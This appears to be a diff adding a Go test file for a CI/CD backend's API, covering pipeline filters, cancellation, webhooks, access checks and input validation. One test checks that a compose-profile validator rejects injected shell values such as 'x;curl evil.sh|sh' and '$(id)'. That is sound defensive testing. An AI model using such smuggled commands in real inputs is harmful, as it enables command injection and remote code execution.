@@ -0,0 +1,449 @@
+package api
+
+import (
+	"context"
+	"encoding/json"
+	"errors"
+	"net/http"
+	"net/http/httptest"
+	"reflect"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/Soif2Sang/imt-cloud-CI-CD-backend.git/internal/models"
+)
+
+func TestPipelineFilterFromRequest(t *testing.T) {
+	t.Run("LabelFilter", func(t *testing.T) {
+		req := httptest.NewRequest("GET", "/api/v1/projects/1/pipelines?label=%20Release%20", nil)
+		filter, err := pipelineFilterFromRequest(req)
+		if err != nil || filter != (models.PipelineFilter{Label: "release"}) {
+			t.Errorf("Expected only the label filter 'release', got %+v (%v)", filter, err)
+		}
+	})
+
+	t.Run("NoFilter", func(t *testing.T) {
+		req := httptest.NewRequest("GET", "/api/v1/projects/1/pipelines", nil)
+		filter, err := pipelineFilterFromRequest(req)
+		if err != nil || filter != (models.PipelineFilter{}) {
+			t.Errorf("Expected an empty filter, got %+v (%v)", filter, err)
+		}
+	})
+
+	t.Run("StatusBranchAndPage", func(t *testing.T) {
+		req := httptest.NewRequest("GET", "/api/v1/projects/1/pipelines?status=Failed&branch=feature/login&limit=20&offset=40", nil)
+		filter, err := pipelineFilterFromRequest(req)
+		expected := models.PipelineFilter{Status: "failed", Branch: "feature/login", Limit: 20, Offset: 40}
+		if err != nil || filter != expected {
+			t.Errorf("Expected %+v, got %+v (%v)", expected, filter, err)
+		}
+	})
+
+	for query, expected := range map[string]string{
+		"status=broken": `invalid status "broken", expected one of pending, queued, running, waiting_for_approval, success, failed, cancelled, superseded`,
+		"limit=0":       `invalid limit "0", expected 1 to 100`,
+		"limit=101":     `invalid limit "101", expected 1 to 100`,
+		"limit=ten":     `invalid limit "ten", expected 1 to 100`,
+		"offset=-1":     `invalid offset "-1"`,
+	} {
+		t.Run("Invalid "+query, func(t *testing.T) {
+			req := httptest.NewRequest("GET", "/api/v1/projects/1/pipelines?"+query, nil)
+			if _, err := pipelineFilterFromRequest(req); err == nil || err.Error() != expected {
+				t.Errorf("Expected error %q for %s, got %v", expected, query, err)
+			}
+		})
+	}
+}
+
+func TestLabelsFromCommitMessage(t *testing.T) {
+	message := "Fix login redirect\n\nSome details.\n\nLabels: Hotfix, release, hotfix\n"
+
+	labels := labelsFromCommitMessage(message)
+	expected := []string{"hotfix", "release"}
+	if !reflect.DeepEqual(labels, expected) {
+		t.Errorf("Expected labels %v, got %v", expected, labels)
+	}
+
+	// The key is case-insensitive, labels of several lines are merged and blank ones dropped
+	labels = labelsFromCommitMessage("Deploy\n\nLABELS: ci, , docs\nlabels : Docs, perf\n")
+	expected = []string{"ci", "docs", "perf"}
+	if !reflect.DeepEqual(labels, expected) {
+		t.Errorf("Expected labels %v, got %v", expected, labels)
+	}
+
+	if labels := labelsFromCommitMessage("Plain commit message"); len(labels) != 0 {
+		t.Errorf("Expected no labels, got %v", labels)
+	}
+}
+
+func TestCancelPipelines(t *testing.T) {
+	s := &Server{runningPipelines: newPipelineRegistry(), scheduler: newPipelineScheduler(1)}
+
+	ctx1, done1 := s.runningPipelines.register(1)
+	defer done1()
+	ctx2, done2 := s.runningPipelines.register(2)
+	defer done2()
+	ctx3, done3 := s.runningPipelines.register(3)
+	defer done3()
+
+	cancelled := s.cancelPipelines([]int{1, 2})
+
+	if !reflect.DeepEqual(cancelled, []int{1, 2}) {
+		t.Errorf("Expected pipelines [1 2] to be cancelled, got %v", cancelled)
+	}
+	if ctx1.Err() == nil || ctx2.Err() == nil {
+		t.Error("Expected running pipelines 1 and 2 to be cancelled")
+	}
+	if ctx3.Err() != nil {
+		t.Error("Expected pipeline 3 to keep running")
+	}
+
+	// Cancelling again is harmless
+	if cancelled := s.cancelPipelines([]int{1}); !reflect.DeepEqual(cancelled, []int{1}) {
+		t.Errorf("Expected second cancellation to report [1], got %v", cancelled)
+	}
+
+	// A run queued by the scheduler is withdrawn before it starts
+	s.scheduler.acquire(context.Background(), nil)
+	s.scheduler.submit(4, nil, func() { t.Error("Expected the cancelled pipeline 4 not to start") })
+	if cancelled := s.cancelPipelines([]int{4}); !reflect.DeepEqual(cancelled, []int{4}) {
+		t.Errorf("Expected queued pipeline 4 to be cancelled, got %v", cancelled)
+	}
+	if stats := s.scheduler.stats(); stats.Queued != 0 {
+		t.Errorf("Expected the queue to be empty, got %+v", stats)
+	}
+	s.scheduler.release()
+}
+
+func TestSkipPausedProject(t *testing.T) {
+	t.Run("PausedProjectIgnoresWebhook", func(t *testing.T) {
+		w := httptest.NewRecorder()
+		project := &models.Project{ID: 1, Name: "demo", Paused: true}
+
+		if !skipPausedProject(w, project) {
+			t.Fatal("Expected webhook to be skipped for a paused project")
+		}
+		if w.Code != http.StatusOK {
+			t.Errorf("Expected status 200, got %d", w.Code)
+		}
+		if contentType := w.Header().Get("Content-Type"); contentType != "application/json" {
+			t.Errorf("Expected a JSON response, got %q", contentType)
+		}
+		var body map[string]string
+		if err := json.Unmarshal(w.Body.Bytes(), &body); err != nil {
+			t.Fatalf("Expected a JSON body, got %q (%v)", w.Body.String(), err)
+		}
+		if expected := map[string]string{"message": "project paused, pipeline skipped"}; !reflect.DeepEqual(body, expected) {
+			t.Errorf("Expected body %v, got %v", expected, body)
+		}
+	})
+
+	t.Run("ActiveProjectRunsPipeline", func(t *testing.T) {
+		w := httptest.NewRecorder()
+		project := &models.Project{ID: 1, Name: "demo"}
+
+		if skipPausedProject(w, project) {
+			t.Fatal("Expected webhook to be processed for an active project")
+		}
+		if w.Body.Len() != 0 || len(w.Header()) != 0 {
+			t.Errorf("Expected no response to be written, got %v '%s'", w.Header(), w.Body.String())
+		}
+	})
+}
+
+func TestWebhookSyncTimeout(t *testing.T) {
+	tests := []struct {
+		name     string
+		url      string
+		header   string
+		expected time.Duration
+	}{
+		{"AsyncByDefault", "/webhook/github", "", 0},
+		{"QueryParam", "/webhook/github?wait=true", "", defaultWebhookSyncTimeout},
+		{"Header", "/webhook/github", "sync", defaultWebhookSyncTimeout},
+		{"CustomTimeout", "/webhook/github?wait=true&timeout=90s", "", 90 * time.Second},
+		{"TimeoutInSeconds", "/webhook/github?wait=1&timeout=30", "", 30 * time.Second},
+		{"TimeoutCapped", "/webhook/github?wait=true&timeout=5h", "", maxWebhookSyncTimeout},
+		{"QueryOverridesHeader", "/webhook/github?wait=false", "sync", 0},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			req := httptest.NewRequest("POST", tt.url, nil)
+			if tt.header != "" {
+				req.Header.Set("X-Webhook-Mode", tt.header)
+			}
+			if got := webhookSyncTimeout(req); got != tt.expected {
+				t.Errorf("Expected timeout %v, got %v", tt.expected, got)
+			}
+		})
+	}
+}
+
+func TestRunWebhookSync(t *testing.T) {
+	t.Run("ReturnsFinalStatus", func(t *testing.T) {
+		w := httptest.NewRecorder()
+		runWebhookSync(w, func() (models.PipelineRunParams, bool) {
+			return models.PipelineRunParams{PipelineID: 42}, true
+		}, func(models.PipelineRunParams) string {
+			return "failed"
+		}, time.Second, "main", "abc123")
+
+		if w.Code != http.StatusOK {
+			t.Fatalf("Expected status 200, got %d", w.Code)
+		}
+		var body map[string]interface{}
+		if err := json.Unmarshal(w.Body.Bytes(), &body); err != nil {
+			t.Fatalf("Invalid JSON response: %v", err)
+		}
+		if body["status"] != "failed" || body["pipeline_id"] != float64(42) {
+			t.Errorf("Expected pipeline 42 with status 'failed', got %v", body)
+		}
+	})
+
+	t.Run("TimeoutLeavesPipelineRunning", func(t *testing.T) {
+		release := make(chan struct{})
+		defer close(release)
+
+		w := httptest.NewRecorder()
+		runWebhookSync(w, func() (models.PipelineRunParams, bool) {
+			return models.PipelineRunParams{PipelineID: 42}, true
+		}, func(models.PipelineRunParams) string {
+			<-release
+			return "success"
+		}, 10*time.Millisecond, "main", "abc123")
+
+		if w.Code != http.StatusAccepted {
+			t.Fatalf("Expected status 202, got %d", w.Code)
+		}
+		var body map[string]interface{}
+		if err := json.Unmarshal(w.Body.Bytes(), &body); err != nil {
+			t.Fatalf("Invalid JSON response: %v", err)
+		}
+		// The caller can follow the pipeline still running
+		if body["status"] != "running" || body["pipeline_id"] != float64(42) {
+			t.Errorf("Expected pipeline 42 still running, got %v", body)
+		}
+	})
+
+	t.Run("UnknownProject", func(t *testing.T) {
+		w := httptest.NewRecorder()
+		runWebhookSync(w, func() (models.PipelineRunParams, bool) {
+			return models.PipelineRunParams{}, false
+		}, func(models.PipelineRunParams) string {
+			t.Error("Expected no pipeline to run for an unknown project")
+			return ""
+		}, time.Second, "main", "abc123")
+
+		if w.Code != http.StatusNotFound {
+			t.Errorf("Expected status 404, got %d: %s", w.Code, w.Body.String())
+		}
+	})
+}
+
+func TestParseTriggerRequestInlineConfig(t *testing.T) {
+	config := "stages: [test]\nsmoke:\n  stage: test\n  image: alpine\n  script:\n    - echo ok\n"
+	body, _ := json.Marshal(map[string]string{"branch": "feature", "config": config})
+
+	req := httptest.NewRequest("POST", "/api/v1/projects/1/pipelines", strings.NewReader(string(body)))
+	reqBody, err := parseTriggerRequest(req)
+	if err != nil {
+		t.Fatalf("Expected inline config to be accepted, got %v", err)
+	}
+	if reqBody.Branch != "feature" || reqBody.Config != config {
+		t.Errorf("Unexpected trigger request %+v", reqBody)
+	}
+
+	// An invalid inline config is rejected before any pipeline is created
+	body, _ = json.Marshal(map[string]string{"config": "stages: [test]\nconcurrency:\n  policy: newest-wins\n"})
+	req = httptest.NewRequest("POST", "/api/v1/projects/1/pipelines", strings.NewReader(string(body)))
+	if _, err := parseTriggerRequest(req); err == nil {
+		t.Error("Expected an invalid inline config to be rejected")
+	}
+
+	// An inline config without stage nor job gives the runner nothing to run
+	body, _ = json.Marshal(map[string]string{"config": "# TODO\n"})
+	req = httptest.NewRequest("POST", "/api/v1/projects/1/pipelines", strings.NewReader(string(body)))
+	if _, err := parseTriggerRequest(req); err == nil || !strings.Contains(err.Error(), "configuration vide") {
+		t.Errorf("Expected an empty inline config to be rejected, got %v", err)
+	}
+
+	// A tag ref keeps its kind, a branch ref does not become a tag
+	req = httptest.NewRequest("POST", "/api/v1/projects/1/pipelines", strings.NewReader(`{"branch": "refs/tags/v1.2.0"}`))
+	if reqBody, err := parseTriggerRequest(req); err != nil || reqBody.Branch != "v1.2.0" || reqBody.Tag != "v1.2.0" {
+		t.Errorf("Expected tag v1.2.0, got %+v (%v)", reqBody, err)
+	}
+	req = httptest.NewRequest("POST", "/api/v1/projects/1/pipelines", strings.NewReader(`{"branch": "refs/heads/release/v1"}`))
+	if reqBody, err := parseTriggerRequest(req); err != nil || reqBody.Branch != "release/v1" || reqBody.Tag != "" {
+		t.Errorf("Expected branch release/v1 without tag, got %+v (%v)", reqBody, err)
+	}
+
+	// Without body, the main branch is triggered with its committed config
+	req = httptest.NewRequest("POST", "/api/v1/projects/1/pipelines", nil)
+	reqBody, err = parseTriggerRequest(req)
+	if err != nil || reqBody.Branch != "main" || reqBody.Config != "" {
+		t.Errorf("Expected main branch without inline config, got %+v (%v)", reqBody, err)
+	}
+}
+
+func TestCheckInlineConfigOwner(t *testing.T) {
+	project := &models.Project{ID: 3, OwnerID: 1}
+	inline := triggerRequest{Branch: "main", Config: "stages: [test]\n"}
+
+	tests := []struct {
+		name    string
+		userID  int // 0 leaves the request unauthenticated
+		reqBody triggerRequest
+		want    bool
+		status  int
+	}{
+		{"Owner", 1, inline, true, http.StatusOK},
+		{"Member", 2, inline, false, http.StatusForbidden},
+		{"Unauthenticated", 0, inline, false, http.StatusUnauthorized},
+		{"CommittedConfig", 2, triggerRequest{Branch: "main"}, true, http.StatusOK},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			req := httptest.NewRequest("POST", "/api/v1/projects/3/pipelines", nil)
+			if tt.userID != 0 {
+				req = req.WithContext(context.WithValue(req.Context(), "userID", tt.userID))
+			}
+			rec := httptest.NewRecorder()
+			if got := checkInlineConfigOwner(rec, req, project, tt.reqBody); got != tt.want {
+				t.Errorf("Expected %v, got %v", tt.want, got)
+			}
+			if rec.Code != tt.status {
+				t.Errorf("Expected status %d, got %d", tt.status, rec.Code)
+			}
+		})
+	}
+}
+
+func TestHandlePipelineCancelMethod(t *testing.T) {
+	s := &Server{runningPipelines: newPipelineRegistry()}
+
+	w := httptest.NewRecorder()
+	s.handlePipelineCancel(w, httptest.NewRequest("GET", "/api/v1/projects/1/pipelines/2/cancel", nil))
+	if w.Code != http.StatusMethodNotAllowed {
+		t.Errorf("Expected 405 for GET, got %d", w.Code)
+	}
+
+	w = httptest.NewRecorder()
+	s.handlePipelineCancel(w, httptest.NewRequest("POST", "/api/v1/projects/1/pipelines/abc/cancel", nil))
+	if w.Code != http.StatusBadRequest {
+		t.Errorf("Expected 400 for an invalid pipeline ID, got %d", w.Code)
+	}
+}
+
+func TestValidHTTPURL(t *testing.T) {
+	for _, raw := range []string{"", "http://localhost:8080/healthz", "https://app.example.com/health"} {
+		if !validHTTPURL(raw) {
+			t.Errorf("Expected %q to be accepted", raw)
+		}
+	}
+	for _, raw := range []string{"localhost:8080/healthz", "ftp://example.com", "http://", "/healthz"} {
+		if validHTTPURL(raw) {
+			t.Errorf("Expected %q to be rejected", raw)
+		}
+	}
+}
+
+func TestInvalidProjectURL(t *testing.T) {
+	valid := models.NewProject{HealthCheckURL: "http://localhost/healthz", SlackWebhookURL: "https://hooks.slack.com/services/T/B/X"}
+	if field := invalidProjectURL(valid); field != "" {
+		t.Errorf("Expected valid URLs, got %s rejected", field)
+	}
+	if field := invalidProjectURL(models.NewProject{NotifyWebhookURL: "example.com/hook"}); field != "notify_webhook_url" {
+		t.Errorf("Expected notify_webhook_url to be rejected, got %q", field)
+	}
+	if field := invalidProjectURL(models.NewProject{SlackWebhookURL: "http://hooks.slack.com/services/T/B/X"}); field != "slack_webhook_url" {
+		t.Errorf("Expected a plain http slack_webhook_url to be rejected, got %q", field)
+	}
+}
+
+func TestInvalidComposeProfile(t *testing.T) {
+	if profile := invalidComposeProfile([]string{"web", "debug_1", "v1.2-beta"}); profile != "" {
+		t.Errorf("Expected valid profiles, got %q rejected", profile)
+	}
+	if profile := invalidComposeProfile([]string{"web", "x;curl evil.sh|sh"}); profile != "x;curl evil.sh|sh" {
+		t.Errorf("Expected the hostile profile to be rejected, got %q", profile)
+	}
+	if profile := invalidComposeProfile([]string{"$(id)"}); profile != "$(id)" {
+		t.Errorf("Expected shell syntax to be rejected, got %q", profile)
+	}
+}
+
+func TestStageTimings(t *testing.T) {
+	at := func(seconds int) *time.Time {
+		t := time.Date(2024, 5, 1, 10, 0, seconds, 0, time.UTC)
+		return &t
+	}
+	jobs := []models.Job{
+		{Name: "build-api", Stage: "build", StartedAt: at(0), FinishedAt: at(30)},
+		{Name: "build-web", Stage: "build", StartedAt: at(2), FinishedAt: at(45)},
+		{Name: "test", Stage: "test", StartedAt: at(46)},
+		{Name: "deploy", Stage: "deploy"},
+	}
+
+	stages := stageTimings(jobs)
+	if len(stages) != 3 || stages[0].Name != "build" || stages[1].Name != "test" || stages[2].Name != "deploy" {
+		t.Fatalf("Expected build, test and deploy stages, got %+v", stages)
+	}
+	if stages[0].Duration == nil || *stages[0].Duration != 45 {
+		t.Errorf("Expected the build stage to last 45s, got %v", stages[0].Duration)
+	}
+	if stages[1].StartedAt == nil || stages[1].FinishedAt != nil || stages[1].Duration != nil {
+		t.Errorf("Expected the running test stage to have no finish, got %+v", stages[1])
+	}
+	if stages[2].StartedAt != nil || stages[2].Duration != nil {
+		t.Errorf("Expected the pending deploy stage to have no timing, got %+v", stages[2])
+	}
+}
+
+func TestCheckProjectAccess(t *testing.T) {
+	project := &models.Project{ID: 3, OwnerID: 1}
+	members := func(projectID int) ([]models.ProjectMember, error) {
+		return []models.ProjectMember{{ProjectID: projectID, UserID: 2}}, nil
+	}
+
+	tests := []struct {
+		name   string
+		userID int
+		want   bool
+		status int
+	}{
+		{"Owner", 1, true, http.StatusOK},
+		{"Member", 2, true, http.StatusOK},
+		{"Stranger", 9, false, http.StatusForbidden},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			rec := httptest.NewRecorder()
+			if got := checkProjectAccess(rec, project, tt.userID, members); got != tt.want {
+				t.Errorf("Expected access %v, got %v", tt.want, got)
+			}
+			if rec.Code != tt.status {
+				t.Errorf("Expected status %d, got %d", tt.status, rec.Code)
+			}
+		})
+	}
+
+	t.Run("MembersUnavailable", func(t *testing.T) {
+		rec := httptest.NewRecorder()
+		failing := func(int) ([]models.ProjectMember, error) { return nil, errors.New("db down") }
+		if checkProjectAccess(rec, project, 9, failing) || rec.Code != http.StatusInternalServerError {
+			t.Errorf("Expected a 500 when members cannot be read, got %d", rec.Code)
+		}
+	})
+}
+
+func TestHandlePipelineCancelForbidden(t *testing.T) {
+	// A user who is neither the owner nor a member cannot cancel the pipelines of the project
+	project := &models.Project{ID: 1, OwnerID: 1}
+	noMembers := func(int) ([]models.ProjectMember, error) { return nil, nil }
+	w := httptest.NewRecorder()
+	if checkProjectAccess(w, project, 2, noMembers) || w.Code != http.StatusForbidden {
+		t.Errorf("Expected 403 for a stranger cancelling a pipeline, got %d", w.Code)
+	}
+}